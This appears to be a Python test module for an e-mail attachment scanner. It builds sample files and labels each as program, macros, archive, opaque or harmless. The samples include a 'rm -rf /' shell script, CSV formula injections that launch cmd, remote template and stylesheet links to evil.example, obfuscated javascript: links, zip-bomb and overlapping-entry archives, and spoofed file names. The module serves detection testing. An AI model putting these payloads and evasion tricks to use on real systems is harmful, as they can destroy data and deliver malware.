"""Attacks by files, and harmless files: by what they hold, within other files, and by their names."""

import base64
import io
import struct
import zipfile
import zlib

from mailbot.core.model.mail import Danger
from mailbot.parse import limits
from tests.support.compound_file import compound_file

PROGRAM = b"MZ" + b"\0" * 58 + struct.pack("<I", 64) + b"PE\0\0L\x01" + b"\0" * 40
PICTURE = b"\x89PNG\r\n\x1a\n" + b"\0" * 60
ONENOTE = b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3" + b"\0" * 200
ONENOTE_FILE = b"\xe7\x16\xe3\xbd\x65\x26\x11\x45\xa4\xc4\x8d\x4d\x0b\x7a\x9e\xac"
INSTALLER = bytes.fromhex("84100c0000000000c000000000000046")


def archive(**members: bytes) -> bytes:
    """Return an archive; in names "__" is "/", "_" is "." and "!" is "_"."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in members.items():
            made.writestr(name.replace("__", "/").replace("_", ".").replace("!", "_"), content)
    return file.getvalue()


def note(content: bytes) -> bytes:
    """Return a OneNote section with an embedded file."""
    return ONENOTE + ONENOTE_FILE + struct.pack("<QIQ", len(content), 0, 0) + content


def mail_with(name: str, content: bytes) -> bytes:
    """Return a mail with an attachment."""
    encoded = base64.encodebytes(content).decode()
    return (
        "Subject: Protokoll\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=q\r\n\r\n"
        "--q\r\nContent-Type: text/plain\r\n\r\nAnbei.\r\n--q\r\n"
        f'Content-Disposition: attachment; filename="{name}"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
        f"{encoded}\r\n--q--\r\n"
    ).encode()


def forwarded(content: bytes) -> bytes:
    """Return a mail with a mail attached."""
    head = b"From: a@b.example\r\nContent-Type: multipart/mixed; boundary=w\r\n\r\n--w\r\n"
    return head + b"Content-Type: message/rfc822\r\n\r\n" + content + b"\r\n--w--\r\n"


def card(head: str, content: bytes, kind: str = "CALENDAR") -> bytes:
    """Return a calendar or a business card with a file, folded."""
    encoded = base64.b64encode(content).decode()
    folded = "\r\n ".join(encoded[at : at + 60] for at in range(0, len(encoded), 60))
    return f"BEGIN:V{kind}\r\nVERSION:2.0\r\n{head}{folded}\r\nEND:V{kind}\r\n".encode()


def outlook(name: str, content: bytes) -> bytes:
    """Return a .msg with an attachment."""
    attachment = {"__substg1.0_37010102": content, "__substg1.0_3707001F": name.encode("utf-16-le")}
    return compound_file({"__substg1.0_0037001F": b"", "__attach_version1.0_#00000000": attachment})


def package(name: str, content: bytes) -> bytes:
    """Return the OLE object of a file that was dragged into a document."""
    path = f"C:\\{name}\0".encode()
    native = b"\x02\0" + name.encode() + b"\0" + path + struct.pack("<HHI", 0, 3, len(path)) + path
    native += struct.pack("<I", len(content)) + content
    return compound_file({"\x01Ole10Native": struct.pack("<I", len(native)) + native})


def workbook(kind: int) -> bytes:
    """Return an .xls with one sheet of that kind (MS-XLS, 2.4.28)."""
    sheet = struct.pack("<IBB", 0, 0, kind) + b"\x01\0A"
    records = struct.pack("<HH", 0x809, 4) + b"\0\x06\x05\0" + struct.pack("<HH", 0x85, len(sheet)) + sheet
    return compound_file({"Workbook": records + b"\x0a\0\0\0" + b"\0" * 5_000})


def presentation(content: bytes) -> bytes:
    """Return a .ppt with a compressed object."""
    packed = struct.pack("<I", len(content)) + zlib.compress(content)
    record = b"\x10\x00\x11\x10" + struct.pack("<I", len(packed)) + packed
    return compound_file({"PowerPoint Document": b"\0" * 100 + record + b"\0" * 5_000})


def image(sign: bytes, at: int) -> bytes:
    """Return a file with a signature at a place."""
    return (b"\0" * at + sign).ljust(45_000, b"\0")


RELATIONSHIP = (
    b'<Relationships><Relationship Id="r1" Type="http://x/relationships/attachedTemplate" '
    b'Target="%s" TargetMode="External"/></Relationships>'
)

PE = b"MZ\x90\0\x03\0\0\0"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500
PDF = b"%PDF-1.4\n"


def zipped(*members: tuple[str, bytes], flag: int = 0, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Return an archive with these members; `flag` is set in their headers."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", method) as archive:
        for name, content in members:
            archive.writestr(name, content)
    made = bytearray(file.getvalue())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = made.find(mark)
        made[at + offset] |= flag
    return bytes(made)


def wide(text: str) -> bytes:
    """Return a name as OLE files hold it."""
    return text.encode("utf-16-le")


def deep(levels: int) -> bytes:
    """Return archives inside each other, a harmless text in the innermost."""
    return zipped(("x.zip", deep(levels - 1))) if levels else zipped(("x.txt", b"Hallo"))


def overlapping(members: int, content: bytes) -> bytes:
    """Return an archive whose entries all name the same data (PKWARE APPNOTE 4.3)."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed, name = deflate.compress(content) + deflate.flush(), b"a.doc"
    notified = (20, 0, 8, 0, 33, zlib.crc32(content), len(packed), len(content), len(name), 0)
    local = struct.pack("<4s5H3L2H", b"PK\x03\x04", *notified) + name + packed
    entry = struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, *notified, 0, 0, 0, 0, 0) + name
    size = len(entry) * members
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, members, members, size, len(local), 0)
    return local + entry * members + end


def tar_of(name: bytes) -> bytes:
    """Return the header of tar before POSIX: without a signature, but with a sum."""
    head = name.ljust(100, b"\0") + b"0000644\0" * 3 + b"00000000000\0" * 2
    head = (head + b" " * 8).ljust(512, b"\0")
    return head.replace(b" " * 8, b"%06o\0 " % sum(head))


def two_names(name: str, other: str) -> bytes:
    """Return an archive in which a file has another name in UTF-8 as well (PKWARE APPNOTE 4.6.9)."""
    file, member = io.BytesIO(), zipfile.ZipInfo(name)
    path = b"\1" + struct.pack("<I", zlib.crc32(name.encode())) + other.encode()
    member.extra = struct.pack("<HH", 0x7075, len(path)) + path
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr(member, b"x")
    return file.getvalue()


P, M, A, S, N = Danger.PROGRAM, Danger.MACROS, Danger.ARCHIVE, Danger.OPAQUE, Danger.NONE
FILES: tuple[tuple[str, str, bytes, Danger], ...] = (
    ("a program", "rechnung.exe", PE, P),
    ("a program called a picture", "foto.jpg", PE, P),
    ("a program without a name", "", PE, P),
    ("a program of Linux", "liste", b"\x7fELF\x02\x01", P),
    ("a program of macOS", "liste", b"\xcf\xfa\xed\xfe\x07", P),
    ("a program in Java", "liste.txt", b"\xca\xfe\xba\xbe\0\0", P),
    ("a shell script", "liste.txt", b"#!/bin/sh\nrm -rf /\n", P),
    ("a link of Windows", "Ordner.pdf", b"L\0\0\0\x01\x14\x02\0\0", P),
    ("a script by its name", "Rechnung.pdf.js", b"new ActiveXObject()", P),
    ("capitals and dots behind", "RECHNUNG.EXE. .", b"x", P),
    ("a web link", "Login.url", b"[InternetShortcut]", P),
    ("a disk image", "scan.iso", b"\0" * 100, P),
    ("an HTML application", "plan.hta", b"<script>", P),
    ("a page with a script", "Rechnung.html", b"<html><script>fetch('//x')</script>", P),
    ("a page that asks for a password", "Login.htm", b"<!DOCTYPE html><form action='//x'><input>", P),
    ("a page that leads on", "x.html", b"<meta http-equiv=\"refresh\" content=\"0;url=//x\">", P),
    ("a page without its name", "Rechnung", b"\xef\xbb\xbf \n<HTML><SCRIPT>", P),
    ("a page in UTF-16", "x.txt", "\ufeff<html><script>".encode("utf-16-le"), P),
    ("a drawing with a script", "logo.svg", b"<?xml version='1.0'?><svg onload='alert(1)'/>", P),
    ("a drawing with a page in it", "logo.svg", b"<svg><foreignObject></foreignObject></svg>", P),
    ("a page with all that belongs to it", "x.mht", b"From: x", P),
    ("a page in an archive", "seite.zip", zipped(("index.html", b"<script>")), A),
    ("Word with macros", "brief.docx", zipped(("word/document.xml", b"<w/>"), ("word/vbaProject.bin", OLE)), M),
    ("Word with macros by its name", "brief.docm", b"x", M),
    ("an old Word with macros", "brief.doc", OLE + wide("_VBA_PROJECT"), M),
    ("an old Excel with macros", "liste.xls", OLE + wide("Macros"), M),
    ("RTF with an object", "brief.rtf", b"{\\rtf1 {\\object\\objdata 0105}}", M),
    ("a program in an archive", "fotos.zip", zipped(("a.jpg", b"\xff\xd8"), ("b.scr", PE)), A),
    ("a program in an archive by its content", "fotos.zip", zipped(("b.jpg", PE)), A),
    ("a program in an archive in an archive", "fotos.zip", zipped(("x.zip", zipped(("b.jpg", PE)))), A),
    ("macros in an archive", "briefe.zip", zipped(("a.doc", OLE + wide("_VBA_PROJECT"))), A),
    ("an archive called a picture", "foto.jpg", zipped(("b.exe", PE)), A),
    ("an encrypted archive", "fotos.zip", zipped(("a.jpg", b"\xff\xd8"), flag=1), S),
    ("an encrypted Word", "brief.docx", OLE + wide("EncryptedPackage"), S),
    ("archives in archives", "x.zip", deep(limits.ARCHIVES + 1), S),
    ("a bomb in an archive", "x.zip", zipped(("x.zip", b"PK\x03\x04" + b"\0" * (limits.MEMBER_BYTES + 1))), S),
    ("an archive of many members", "x.zip", zipped(*((str(n), b"") for n in range(limits.MEMBERS + 1))), S),
    ("T52-20 entries that name the same data", "x.zip", overlapping(2, OLE), S),
    ("T52-100 entries that name the same data in an archive", "x.zip", zipped(("x.zip", overlapping(2, OLE))), S),
    ("an archive of bzip2", "x.zip", zipped(("a.txt", b"a"), method=zipfile.ZIP_BZIP2), S),
    ("an archive of LZMA", "x.zip", zipped(("a.txt", b"a"), method=zipfile.ZIP_LZMA), S),
    ("a broken archive", "x.zip", b"PK\x03\x04" + b"\xff" * 200, S),
    ("7z", "x.7z", b"7z\xbc\xaf\x27\x1c\0\4", S),
    ("RAR", "x.rar", b"Rar!\x1a\x07\x01\0", S),
    ("gzip", "x.gz", b"\x1f\x8b\x08\0", S),
    ("tar", "x.tar", b"x".ljust(257, b"\0") + b"ustar\0", S),
    # mails
    ("C01 a program in a mail", "brief.eml", mail_with("bild.png", PROGRAM), A),
    ("mails 2", "brief.txt", mail_with("plan.js", b"x"), A),
    ("mails 3", "", forwarded(mail_with("tabelle.xlsm", b"x")), A),
    ("mails 4", "brief.eml", mail_with("fotos.zip", archive(a_scr=b"x")), A),
    ("mails 5", "brief.eml", mail_with("bild.png", PICTURE), N),
    ("mails 6", "briefe.zip", archive(brief_eml=mail_with("bild.png", PROGRAM)), A),
    ("mails 7", "briefe.zip", archive(brief_eml=mail_with("bild.png", PICTURE)), N),
    ("mails 8", "Antwort.txt", b"Von: Lena\nMontag: 8 Uhr\nDienstag: 9 Uhr\n", N),
    # Outlook
    ("C05 a program in a mail of Outlook", "brief.msg", outlook("bild.png", PROGRAM), A),
    ("Outlook 2", "brief.msg", outlook("start.vbs", b"x" * 5_000), A),
    ("Outlook 3", "brief.msg", outlook("brief.msg", outlook("start.vbs", b"x")), A),
    ("Outlook 4", "brief.msg", outlook("bild.png", PICTURE * 100), N),
    ("Outlook 5", "brief.msg", outlook("bild.png", PICTURE)[:-900], S),
    # calendars and business cards
    ("C03 a program in an invitation", "termin.ics", card('ATTACH;ENCODING=BASE64;VALUE=BINARY;X-FILENAME="plan.pdf":', PROGRAM), A),
    ("calendars and business cards 2", "termin.ics", card("ATTACH;FILENAME=start.cmd;VALUE=BINARY;ENCODING=BASE64:", b"del x"), A),
    ("calendars and business cards 3", "termin", card("ATTACH:data:application/octet-stream;base64,", PROGRAM), A),
    ("calendars and business cards 4", "lena.vcf", card("PHOTO;ENCODING=b;TYPE=PNG:", PROGRAM, "CARD"), A),
    ("calendars and business cards 5", "lena.vcf", card("PHOTO;ENCODING=b;TYPE=PNG:", PICTURE, "CARD"), N),
    # OneNote
    ("C04 a program in a notebook", "heft.one", note(PROGRAM), A),
    ("OneNote 2", "heft.one", note(b"CreateObject(1)"), A),
    ("OneNote 3", "heft", note(archive(a_exe=PROGRAM)), A),
    ("OneNote 4", "heft.one", note(PICTURE), N),
    # Office
    ("Office 1", "brief.doc", package("rechnung.exe", PROGRAM), A),
    ("Office 2", "brief.doc", package("rechnung.bat", b"del x"), A),
    ("Office 3", "brief.doc", package("bild.png", PICTURE), N),
    ("C06 a script as a package in Word", "brief.docx", archive(word__embeddings__oleObject1_bin=package("a.wsf", b"x")), A),
    ("Office 5", "brief.docx", archive(word__embeddings__teil_bin=PROGRAM), A),
    ("Office 6", "brief.docx", archive(word__embeddings__oleObject1_bin=package("plan.pdf", b"%PDF-1.7")), N),
    ("Office 7", "brief.docx", archive(word___rels__settings_xml_rels=RELATIONSHIP % b"https://evil.example/x.dotm"), M),
    ("Office 8", "brief.docx", archive(word___rels__settings_xml_rels=RELATIONSHIP % b"file:///C:/Vorlagen/a.dotx"), N),
    ("C33 a macro sheet of Excel 4", "liste.xlsb", archive(xl__macrosheets__sheet1_bin=b"x"), M),
    ("Office 10", "liste.xlsx", archive(**{"[Content!Types]_xml": b"<x ContentType='ms-excel.intlmacrosheet+xml'/>"}), M),
    ("Office 11", "liste.xlsx", archive(xl__externalLinks__externalLink1_xml=b"<ddeLink ddeService='cmd'/>"), M),
    ("Office 12", "liste.xls", workbook(0), N),
    ("Office 13", "liste.xls", workbook(1), M),
    ("Office 14", "folien.ppt", presentation(compound_file({"VBA": {"_VBA_PROJECT": b"x"}})), A),
    ("Office 15", "folien.ppt", presentation(PICTURE), N),
    ("Office 16", "brief.odt", archive(Basic__Standard__Modul1_xml=b"<x/>", content_xml=b"<x/>"), M),
    ("Office 17", "brief.odt", archive(content_xml=b"<x/>", mimetype=b"application/vnd.oasis"), N),
    ("Office 18", "brief.doc", b"{\\rtf1\\objdata0105}", M),
    ("C32 a SYLK table", "liste.slk", b"ID;PWXL;N;E\nC;X1;Y1;K0;E1+1\nE\n", P),
    ("Office 20", "liste.csv", b"ID;PWXL;N;E\r\nC;X1;Y1;K0\r\nE\r\n", M),
    ("Office 21", "liste.csv", b"ID;PLZ;Ort\n1;12345;Berlin\n", N),
    ("Office 22", "liste.csv", b"a;=cmd|'/c calc'!A0;b\n", M),
    ("C31 a web query of Excel", "abfrage.txt", b"WEB\r\n1\r\nhttps://evil.example/x\r\n", P),
    ("Office 24", "treiber", compound_file({"a": b"x"}, INSTALLER), P),
    ("Office, formula with double quotes", "liste.tsv", b'a\t+cmd|"/c calc"!A0\tb\n', M),
    ("Office, a list with bars", "liste.csv", b'a;"Raum 3 | Beamer defekt!";b\n', N),
    ("Office, prefix of a relationship", "brief.docx", archive(word___rels__settings_xml_rels=RELATIONSHIP.replace(b"<Rel", b"<r:Rel") % b"https://evil.example/x.dotm"), M),
    ("Office, target as references", "brief.docx", archive(word___rels__settings_xml_rels=RELATIONSHIP % b"&#104;ttps://evil.example/x.dotm"), M),
    ("Office, prefix of DDE", "liste.xlsx", archive(xl__externalLinks__externalLink1_xml=b"<x:ddeLink ddeService='cmd'/>"), M),
    ("Office, macros in one XML file", "brief.xml", b"<?xml version='1.0'?><pkg:part pkg:contentType='application/vnd.ms-office.vbaProject'/>", M),
    ("Office, Word 2003", "brief.xml", b"<?xml version='1.0'?><w:wordDocument w:macrosPresent='yes'/>", M),
    ("Office, flat ODF", "brief.fodt", b"<?xml version='1.0'?><office:document><office:script script:language='ooo:Basic'><ooo:module><ooo:source-code>", M),
    ("Office, flat ODF with an empty library", "brief.fodt", b"<?xml version='1.0'?><office:document><office:script script:language='ooo:Basic'><ooo:libraries><ooo:library-embedded ooo:name='Standard'/>", N),
    ("Office, flat ODF without macros", "brief.fodt", b"<?xml version='1.0'?><office:document><text:p>Skript</text:p></office:document>", N),
    # archives
    ("C18 an archive behind other bytes", "fotos.zip", b"\0" * 900 + archive(a_exe=PROGRAM), A),
    ("archives 2", "", b"GIF89a" + archive(a_exe=PROGRAM), A),
    ("archives 3", "fotos.zip", b"\0" * 900 + archive(a_png=PICTURE), N),
    ("archives 4", "fotos.zip", archive(a_png=PICTURE) + archive(a_png=PICTURE), S),
    ("archives 5", "fotos.zip", b"x" * 900, S),
    ("archives 6", "seite.zip", archive(index_html=b"<html><p>" + b"Plan " * 50 + b"<script>a()</script>"), A),
    ("archives 7", "seite.zip", archive(index_html=b"<html><p>" + b"Plan " * 50), N),
    ("C35 an archive of LZH", "x", b"ab-lh5-" + b"\0" * 50, S),
    ("archives 9", "x", b"\0" * 7 + b"**ACE**" + b"\0" * 50, S),
    ("archives 10", "x", b"LZIP\x01" + b"\0" * 50, S),
    ("archives 11", "fotos.txt", b"begin 644 tool.exe\nM35J0\n`\nend\n", S),
    ("archives, oldest form of tar", "x", tar_of(b"a.exe"), S),
    ("archives, a text as long as a header of tar", "x.txt", b"7".ljust(512, b" "), N),
    ("archives, 7z behind a picture", "foto.jpg", b"\xff\xd8\xff\xe0" + b"\0" * 3_000 + b"7z\xbc\xaf\x27\x1c", S),
    ("archives, RAR behind a picture", "foto.jpg", b"\xff\xd8\xff\xe0" + b"\0" * 3_000 + b"Rar!\x1a\x07\1", S),
    ("archives, a second file of RAR", "fotos.r01", b"x", S),
    ("archives, a second file of 7z", "fotos.7z.002", b"x", S),
    ("archives, a date as the end of the name", "Plan zum 30.11", b"Montag", N),
    ("archives, a mailbox of Outlook", "archiv", b"!BDN" + b"\0" * 50, S),
    ("archives, another name in UTF-8", "fotos.zip", two_names("a.txt", "a.exe"), A),
    # disk images and packages
    ("C35 a disk image by its content", "x", image(b"CD001\x01", 0x8001), P),
    ("disk images and packages 2", "x", image(b"NSR02\x01", 0x8801), P),
    ("disk images and packages 3", "x", image(b"EFI PART", 0x200), P),
    ("disk images and packages 4", "fotos.zip", archive(daten_dat=image(b"CD001\x01", 0x8001)), A),
    ("C39 a disk image of macOS", "x", b"\x78\x9c" + b"\0" * 3_000 + b"koly\0\0\0\x04\0\0\2\0" + b"\0" * 500, P),
    ("C34 a package of Debian", "x", b"!<arch>\ndebian-binary   ", P),
    ("disk images and packages 7", "x", b"\xed\xab\xee\xdb\3\0", P),
    ("disk images and packages 8", "x", b"xar!\0\x1c", P),
    ("disk images and packages 9", "x", b"MSWIM\0\0\0", P),
    ("disk images and packages, a profile of iOS", "wlan.xml", b"<?xml version='1.0'?><plist><dict><key>PayloadContent</key>", P),
    ("disk images and packages, AppleScript", "x", b"FasdUAS 1.101.10", P),
    # web pages
    ("C20 a script behind a character reference", "plan.html", b"<a href='java&#x73;cript:a()'>x</a>", P),
    ("web pages 2", "plan.html", b"<a href='&#0000106;avascript:a()'>x</a>", P),
    ("web pages 3", "plan.html", b"<a href='java&Tab;scr\nipt:a()'>x</a>", P),
    ("web pages 4", "plan.html", b"<a href='vbscript&colon;a()'>x</a>", P),
    ("web pages 5", "plan.html", b"<p>&#" + b"9" * 6_000 + b"; &amp; Javanese script</p>", N),
    ("web pages 6", "daten.xml", b"<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>a()</x:script>", P),
    ("web pages 7", "daten.xml", b"<?xml version='1.0'?><lager><object name='Beamer'/></lager>", N),
    ("web pages, a style that is fetched", "daten.xml", b"<?xml version='1.0'?><?xml-stylesheet href='https://evil.example/x.xsl'?><a/>", P),
    ("web pages, a handler that is set", "logo.svg", b"<svg><set attributeName='onmouseover' to='a()'/></svg>", P),
    ("web pages, a file that a link saves", "plan.html", b"<html><a download='a.zip' href=' data:application/zip;base64,UEs='>x</a>", P),
    ("web pages, a picture in the page", "plan.svg", b"<svg><image xlink:href='data:image/png;base64,iVBO'/></svg>", N),
    ("web pages, an empty icon", "bericht.html", b"<html><link rel='icon' href='data:,'><a href='#a'>x</a></html>", N),
    ("web pages, a style in the page", "bericht.html", b"<html><link rel=stylesheet href='data:text/css;base64,AA'></html>", N),
    ("web pages, a file that a link with a bracket saves", "plan.html", b"<html><a title='>' download=a.zip href='data:application/zip;base64,UEs='>", P),
    ("web pages, a file that a link of a map saves", "plan.html", b"<html><area shape=rect download=a.exe href='data:image/png;base64,TVqQ'>", P),
    ("web pages 8", "plan.html", b"<html>" + b"x" * limits.PAGES, S),
    # names
    *((f"suffix {suffix}", f"datei.{suffix}", b"x", P) for suffix in (
        "library-ms", "settingcontent-ms", "search-ms", "pyw", "desktop", "jnlp", "deb", "rpm", "msix",
        "appinstaller", "url", "website", "iqy", "rdp", "theme", "xpi", "webloc", "flatpakref", "vmdk",
        "ppkg", "csproj", "rb", "ica", "contact", "{00024500-0000-0000-c000-000000000046}",
        "mdb", "accdb", "msh2xml", "vbp", "prg", "ops", "htc", "pl",
    )),
    *((f"name {name!r}", name, b"x", P) for name in (
        "start.exe\u200b", "start.exe\xa0", "start.\uff45\uff58\uff45", "start.exe::$DATA", "start.exe\u2028", 'start.exe"?', "AW: start.exe",
    )),
    ("names, braces", "Arbeitsblatt.{neu}", b"x", N),
    ("names 1", "run", b"Wettlauf", N),
    ("names 2", "anleitung.txt", b"Legen Sie eine Datei mit [Desktop Entry] an.", N),
    ("C28 a file of the Linux desktop", "anleitung.txt", b"[Desktop Entry]\nExec=x", P),
    ("names 4", "dos", b"MZ" + b"\1" * 58 + struct.pack("<I", 80) + b"\1" * 16 + b"PE\0\0", P),
    # harmless
    ("PDF", "plan.pdf", PDF, N),
    ("picture", "foto.jpg", b"\xff\xd8\xff\xe0", N),
    ("Word", "brief.docx", zipped(("[Content_Types].xml", b"<x/>"), ("word/document.xml", b"<w/>")), N),
    ("an old Word", "brief.doc", OLE, N),
    ("pictures in an archive", "fotos.zip", zipped(("a.jpg", b"\xff\xd8"), ("mehr/b.jpg", b"\xff\xd8")), N),
    ("an archive in an archive", "fotos.zip", deep(1), N),
    ("an archive that is not compressed", "x.zip", zipped(("a.txt", b"a"), method=zipfile.ZIP_STORED), N),
    ("one entry of its own data", "x.zip", overlapping(1, OLE), N),
    ("a page that only shows", "plan.html", b"<html><body><h1>Plan</h1><p style='color:red'>Mo</p></body></html>", N),
    ("a drawing that only shows", "logo.svg", b"<?xml version='1.0'?><svg><path d='M0 0'/></svg>", N),
    ("a text about scripts", "frage.txt", b"Was macht <script> und onload=?", N),
    ("a text that begins with MZ", "mz.txt", b"MZ am Montag", N),
)  # fmt: skip
